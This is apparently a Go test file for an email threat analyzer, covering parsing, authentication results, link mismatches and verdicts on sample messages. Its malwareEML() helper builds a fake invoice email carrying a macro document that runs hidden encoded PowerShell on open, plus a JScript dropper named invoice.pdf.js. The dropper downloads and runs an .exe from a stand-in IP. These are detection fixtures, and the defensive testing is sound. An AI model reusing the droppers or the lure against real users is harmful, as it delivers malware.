package email

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/eventsec/eventsec/internal/sandbox/samplegen"
)

var update = flag.Bool("update", false, "rewrite the golden files and the generated sample")

// testPolicy is the protected org of the test messages.
var testPolicy = Policy{OrgDomains: []string{"contoso.com"}, Brands: []string{"paypal.com", "microsoft.com", "fabrikam.com"},
	Executives: []string{"Jane Whitfield"}}

// malwareEML builds testdata/malware.eml: a hand-written message carrying
// a real macro document (a .docm with a VBA project that runs a shell
// command on open) and a JScript dropper named invoice.pdf.js.
func malwareEML() []byte {
	vba := samplegen.VBAProject([]samplegen.Module{{Name: "ThisDocument", Source: "Attribute VB_Name = \"ThisDocument\"\r\n" +
		"Sub AutoOpen()\r\n  Shell \"powershell -nop -w hidden -enc SQBFAFgA\", 0\r\nEnd Sub\r\n"}})
	docm := samplegen.Docx(samplegen.DocxOptions{Body: "Enable content to view the remittance advice.", VBA: vba})
	js := []byte("var s = new ActiveXObject(\"WScript.Shell\");\r\ns.Run(\"cmd /c curl -o %TEMP%\\\\a.exe http://198.51.100.66/a.exe && %TEMP%\\\\a.exe\", 0);\r\n")
	b64 := func(b []byte) string {
		enc := make([]byte, 0, len(b)*2)
		s := []byte(strings.TrimSpace(encodeB64(b)))
		for len(s) > 76 {
			enc = append(enc, s[:76]...)
			enc = append(enc, '\r', '\n')
			s = s[76:]
		}
		return string(append(enc, s...))
	}
	var w bytes.Buffer
	w.WriteString("Received: from mail.northwind-traders.net (mail.northwind-traders.net [198.51.100.66])\r\n" +
		"\tby mx1.contoso.com (Postfix) with ESMTP id 4BtB7r1Qk2z9sQ\r\n" +
		"\tfor <ap@contoso.com>; Fri, 13 Nov 2026 07:41:20 +0000 (UTC)\r\n" +
		"Authentication-Results: mx1.contoso.com; spf=pass smtp.mailfrom=northwind-traders.net;\r\n" +
		"\tdkim=none; dmarc=none header.from=northwind-traders.net\r\n" +
		"From: Northwind Accounts <accounts@northwind-traders.net>\r\n" +
		"To: ap@contoso.com\r\n" +
		"Subject: Remittance advice and overdue invoice 2026-1187\r\n" +
		"Date: Fri, 13 Nov 2026 07:41:02 +0000\r\n" +
		"Message-ID: <remit-2026-1187@northwind-traders.net>\r\n" +
		"MIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"mix-1187\"\r\n\r\n" +
		"--mix-1187\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
		"Hello,\r\n\r\nPlease find the remittance advice and the outstanding invoice attached.\r\n" +
		"Payment overdue: open the invoice and enable content.\r\n\r\nNorthwind Accounts\r\n" +
		"--mix-1187\r\nContent-Type: application/vnd.ms-word.document.macroEnabled.12; name=\"Remittance_1187.docm\"\r\n" +
		"Content-Disposition: attachment; filename=\"Remittance_1187.docm\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	w.WriteString(b64(docm))
	w.WriteString("\r\n--mix-1187\r\nContent-Type: application/pdf; name=\"invoice_2026-1187.pdf.js\"\r\n" +
		"Content-Disposition: attachment; filename=\"invoice_2026-1187.pdf.js\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	w.WriteString(b64(js))
	w.WriteString("\r\n--mix-1187--\r\n")
	return w.Bytes()
}

func readSample(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestMalwareSampleIsCurrent(t *testing.T) {
	want := malwareEML()
	p := filepath.Join("testdata", "malware.eml")
	if *update {
		if err := os.WriteFile(p, want, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if got := readSample(t, "malware.eml"); !bytes.Equal(got, want) {
		t.Fatal("testdata/malware.eml differs from malwareEML(); run go test -run TestMalwareSampleIsCurrent -update")
	}
}

// golden is the part of a report the golden files pin down.
type golden struct {
	Verdict     Verdict           `json:"verdict"`
	Score       int               `json:"score"`
	Reasons     []string          `json:"reasons"`
	From        *Address          `json:"from"`
	ReplyTo     []Address         `json:"reply_to,omitempty"`
	ReturnPath  string            `json:"return_path,omitempty"`
	Subject     string            `json:"subject"`
	Date        string            `json:"date,omitempty"`
	DateSkew    *float64          `json:"date_skew_seconds,omitempty"`
	Hops        []string          `json:"hops"`
	Auth        map[string]string `json:"auth"`
	AuthResults []AuthResults     `json:"auth_results"`
	Links       []string          `json:"links"`
	Attachments []string          `json:"attachments"`
	Lookalike   []Typosquat       `json:"sender_lookalike,omitempty"`
	Problems    []string          `json:"problems,omitempty"`
	Text        string            `json:"text_start"`
}

func goldenOf(r *Report) golden {
	m := r.Message
	g := golden{Verdict: r.Verdict, Score: r.Score, From: m.From, ReplyTo: m.ReplyTo, ReturnPath: m.ReturnPath, Subject: m.Subject,
		DateSkew: r.DateSkewSeconds, Auth: map[string]string{"spf": m.Auth.SPF, "dkim": m.Auth.DKIM, "dmarc": m.Auth.DMARC},
		AuthResults: m.Auth.Headers, Lookalike: r.SenderLookalike, Problems: m.Problems, Reasons: []string{}, Hops: []string{},
		Links: []string{}, Attachments: []string{}}
	if m.Date != nil {
		g.Date = m.Date.UTC().Format("2006-01-02T15:04:05Z")
	}
	for _, x := range r.Reasons {
		g.Reasons = append(g.Reasons, fmt.Sprintf("%s %d", x.Code, x.Weight))
	}
	for _, h := range m.Received {
		d := "-"
		if h.DelaySeconds != nil {
			d = fmt.Sprintf("%.0fs", *h.DelaySeconds)
		}
		g.Hops = append(g.Hops, fmt.Sprintf("%d from=%s host=%s ip=%s (%s) by=%s with=%s delay=%s", h.Index, h.From, h.FromHost, h.FromIP, h.IPClass, h.By, h.With, d))
	}
	for _, u := range r.URLs {
		g.Links = append(g.Links, fmt.Sprintf("%s %s text=%q mismatch=%v score=%d", u.Source, u.URL, u.Text, u.Mismatch, u.Score))
	}
	for _, a := range r.Attachments {
		g.Attachments = append(g.Attachments, fmt.Sprintf("%s %q %s sniffed=%s size=%d sha256=%s score=%d %s", a.Part, a.Filename, a.ContentType,
			a.SniffedType, a.Size, a.SHA256, a.Score, a.Verdict))
	}
	g.Text = clip(strings.Join(strings.Fields(m.Text), " "), 120)
	return g
}

// TestGoldenVerdicts parses and analyses each hand-written message and
// compares the outcome with its golden file.
func TestGoldenVerdicts(t *testing.T) {
	tests := []struct {
		file    string
		verdict Verdict
	}{
		{"newsletter.eml", VerdictClean},
		{"phish.eml", VerdictPhishing},
		{"malware.eml", VerdictMalicious},
		{"forwarded.eml", VerdictMalicious},
		{"malformed.eml", VerdictSuspicious},
	}
	an := NewAnalyzer(AnalyzerOptions{})
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			m, err := Parse(readSample(t, tc.file), ParseOptions{})
			if err != nil {
				t.Fatal(err)
			}
			r, err := an.Analyze(context.Background(), "o1", testPolicy, m)
			if err != nil {
				t.Fatal(err)
			}
			got, err := json.MarshalIndent(goldenOf(r), "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			p := filepath.Join("testdata", "golden", strings.TrimSuffix(tc.file, ".eml")+".json")
			if *update {
				if err := os.WriteFile(p, append(got, '\n'), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(bytes.TrimSpace(want), got) {
				t.Errorf("%s differs from its golden file (go test -update to accept):\n%s", tc.file, got)
			}
			if r.Verdict != tc.verdict {
				t.Errorf("verdict %s (score %d), want %s; reasons %v", r.Verdict, r.Score, tc.verdict, goldenOf(r).Reasons)
			}
		})
	}
}

func TestParseDetails(t *testing.T) {
	m, err := Parse(readSample(t, "phish.eml"), ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if m.From == nil || m.From.Name != "IT Service Desk <helpdesk@contoso.com>" || m.From.Domain != "contosso.com" {
		t.Errorf("from = %+v", m.From)
	}
	if m.Subject != "[Action required] Your password expires today" {
		t.Errorf("subject = %q", m.Subject)
	}
	if len(m.Received) != 2 || m.Received[0].FromIP != "203.0.113.77" || m.Received[0].IPClass != "public" ||
		m.Received[1].FromIP != "10.20.0.5" || m.Received[1].IPClass != "private" {
		t.Fatalf("hops = %+v", m.Received)
	}
	if d := m.Received[1].DelaySeconds; d == nil || *d != 2 {
		t.Errorf("delay = %v", d)
	}
	// Only the topmost Authentication-Results counts: the forged "pass"
	// below it is ignored.
	if m.Auth.DMARC != "fail" || m.Auth.SPF != "softfail" || m.Auth.DKIM != "none" || len(m.Auth.Headers) != 2 {
		t.Errorf("auth = %+v", m.Auth)
	}
	dm := m.Auth.Headers[0].Results[2]
	if dm.Method != "dmarc" || dm.Reason != "SPF not aligned (relaxed), No valid DKIM" || dm.Props["header.from"] != "contosso.com" {
		t.Errorf("dmarc result = %+v", dm)
	}
	if m.Auth.ReceivedSPF == nil || m.Auth.ReceivedSPF.Props["client-ip"] != "203.0.113.77" {
		t.Errorf("received-spf = %+v", m.Auth.ReceivedSPF)
	}
	if !strings.Contains(m.HTML, "IT Service Desk © Contoso") {
		t.Errorf("iso-8859-1 quoted-printable HTML not decoded: %q", m.HTML)
	}
	var mismatch *Link
	for i, l := range m.Links {
		if l.Mismatch {
			mismatch = &m.Links[i]
		}
	}
	if mismatch == nil || mismatch.TextHost != "login.contoso.com" || mismatch.Host != "contosso-login.top" {
		t.Errorf("links = %+v", m.Links)
	}
}

func TestParseNestedAndCharsets(t *testing.T) {
	m, err := Parse(readSample(t, "forwarded.eml"), ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if m.From.Name != "José Muñoz" || m.Subject != "Fwd: Factura pendiente nº 4471" {
		t.Errorf("encoded words: %q %q", m.From.Name, m.Subject)
	}
	if !strings.Contains(m.Text, "reenvío") {
		t.Errorf("text = %q", m.Text)
	}
	if len(m.Attachments) != 1 || m.Attachments[0].Message == nil {
		t.Fatalf("attachments = %+v", m.Attachments)
	}
	inner := m.Attachments[0].Message
	if inner.Subject != "Factura pendiente — urgente" || len(inner.Attachments) != 1 || inner.Attachments[0].Filename != "Factura 4471.zip" ||
		inner.Attachments[0].SniffedType != "zip" {
		t.Fatalf("inner = %q %+v", inner.Subject, inner.Attachments)
	}
	if len(inner.Links) != 1 || !inner.Links[0].Mismatch || inner.Links[0].TextHost != "www.fabrikam.com" {
		t.Errorf("inner links = %+v", inner.Links)
	}
}

func TestParseLimits(t *testing.T) {
	raw := readSample(t, "newsletter.eml")
	_, err := Parse(raw, ParseOptions{MaxSize: 100})
	if !errors.Is(err, ErrTooLarge) {
		t.Errorf("size limit: %v", err)
	}
	for _, in := range []string{"", "\x00\x01\x02 binary", "\n\nbody only"} {
		if _, err := Parse([]byte(in), ParseOptions{}); !errors.Is(err, ErrNotMessage) {
			t.Errorf("Parse(%q) = %v, want ErrNotMessage", in, err)
		}
	}
	// Deep nesting stops at MaxDepth instead of recursing without end.
	var b strings.Builder
	b.WriteString("From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n")
	for i := 1; i < 40; i++ {
		fmt.Fprintf(&b, "--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n", i-1, i)
	}
	m, err := Parse([]byte(b.String()), ParseOptions{MaxDepth: 8})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.Join(m.Problems, "\n"), "deeper than 8") {
		t.Errorf("problems = %v", m.Problems)
	}
}

func TestReceivedHop(t *testing.T) {
	tests := []struct {
		in                              string
		from, host, ip, class, by, with string
	}{
		{"from mail.example.com (mail.example.com [192.0.2.1]) by mx.example.org (Postfix) with ESMTPS id ABC for <a@example.org>; Tue, 10 Nov 2026 08:15:02 +0000",
			"mail.example.com", "mail.example.com", "192.0.2.1", "public", "mx.example.org", "ESMTPS"},
		{"from [IPv6:2001:db8::5] (port=4431 helo=x) by relay with esmtpa; Tue, 10 Nov 2026 08:15:02 +0000",
			"[IPv6:2001:db8::5]", "", "2001:db8::5", "public", "relay", "esmtpa"},
		{"by mx.google.com with SMTP id z1csp; Tue, 10 Nov 2026 08:15:02 -0800 (PST)", "", "", "", "", "mx.google.com", "SMTP"},
		{"from localhost (localhost [127.0.0.1]) by h (8.15/8.15) with ESMTP", "localhost", "", "127.0.0.1", "loopback", "h", "ESMTP"},
	}
	for _, tc := range tests {
		h := parseHop(tc.in)
		if h.From != tc.from || h.FromHost != tc.host || h.FromIP != tc.ip || h.IPClass != tc.class || h.By != tc.by || h.With != tc.with {
			t.Errorf("parseHop(%q) = %+v", tc.in, h)
		}
	}
}

func TestAuthResults(t *testing.T) {
	ar := parseAuthResults(`mx.example.org 1; dkim=pass (good sig) header.d=example.com header.s="sel 1"; spf = fail smtp.mailfrom=x@y.example; arc=none; dmarc=fail (p=reject) header.from=example.com`)
	if ar.AuthServID != "mx.example.org" || len(ar.Results) != 4 {
		t.Fatalf("%+v", ar)
	}
	if ar.Results[0].Props["header.s"] != "sel 1" || ar.Results[1].Method != "spf" || ar.Results[1].Result != "fail" ||
		ar.Results[1].Props["smtp.mailfrom"] != "x@y.example" {
		t.Errorf("%+v", ar.Results)
	}
	none := parseAuthResults("mx.example.org; none")
	if len(none.Results) != 0 {
		t.Errorf("none: %+v", none)
	}
}

func TestLinkMismatch(t *testing.T) {
	tests := []struct {
		text, href string
		mismatch   bool
	}{
		{"https://www.paypal.com/signin", "https://paypal.com.secure-login.example.net/", true},
		{"www.contoso.com", "https://contoso.com/x", false},
		{"Click here", "https://evil.example.net/", false},
		{"report.pdf", "https://files.example.net/report.pdf", false},
		{"https://news.example.org", "https://news.example.org/a", false},
		{"bücher.example.de", "https://xn--bcher-kva.example.de/", false},
	}
	for _, tc := range tests {
		m := &Message{HTML: `<a href="` + tc.href + `">` + tc.text + `</a>`}
		ls := extractLinks(m, 10)
		if len(ls) != 1 || ls[0].Mismatch != tc.mismatch {
			t.Errorf("%q → %q: %+v", tc.text, tc.href, ls)
		}
	}
}

func TestQuotedPrintableAndBase64(t *testing.T) {
	if got := string(decodeQP([]byte("caf=C3=A9 =\r\nsoft =ZZ end=\n"))); got != "café soft =ZZ end" {
		t.Errorf("qp = %q", got)
	}
	got, prob := decodeBase64([]byte("aGVs\r\nbG8=\r\n"))
	if string(got) != "hello" || prob != "" {
		t.Errorf("base64 = %q %q", got, prob)
	}
	if got, prob := decodeBase64([]byte("aGVsbG8!!")); string(got) != "hello" || prob == "" {
		t.Errorf("lenient base64 = %q %q", got, prob)
	}
}

func FuzzParse(f *testing.F) {
	for _, n := range []string{"newsletter.eml", "phish.eml", "malformed.eml", "forwarded.eml"} {
		f.Add(readSample(f, n))
	}
	f.Add([]byte("From: a@b\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\n--x--"))
	an := NewAnalyzer(AnalyzerOptions{})
	f.Fuzz(func(t *testing.T, raw []byte) {
		m, err := Parse(raw, ParseOptions{MaxSize: 1 << 20, MaxParts: 50})
		if err != nil {
			return
		}
		if _, err := json.Marshal(m); err != nil {
			t.Fatalf("cannot marshal: %v", err)
		}
		if _, err := an.Analyze(context.Background(), "o", testPolicy, m); err != nil {
			t.Fatal(err)
		}
	})
}

func BenchmarkParse(b *testing.B) {
	for _, n := range []string{"newsletter.eml", "phish.eml", "malware.eml"} {
		raw := readSample(b, n)
		b.Run(n, func(b *testing.B) {
			b.SetBytes(int64(len(raw)))
			for b.Loop() {
				if _, err := Parse(raw, ParseOptions{}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkAnalyze(b *testing.B) {
	an := NewAnalyzer(AnalyzerOptions{})
	raw := readSample(b, "phish.eml")
	for b.Loop() {
		m, err := Parse(raw, ParseOptions{})
		if err != nil {
			b.Fatal(err)
		}
		if _, err := an.Analyze(context.Background(), "o", testPolicy, m); err != nil {
			b.Fatal(err)
		}
	}
}

func encodeB64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
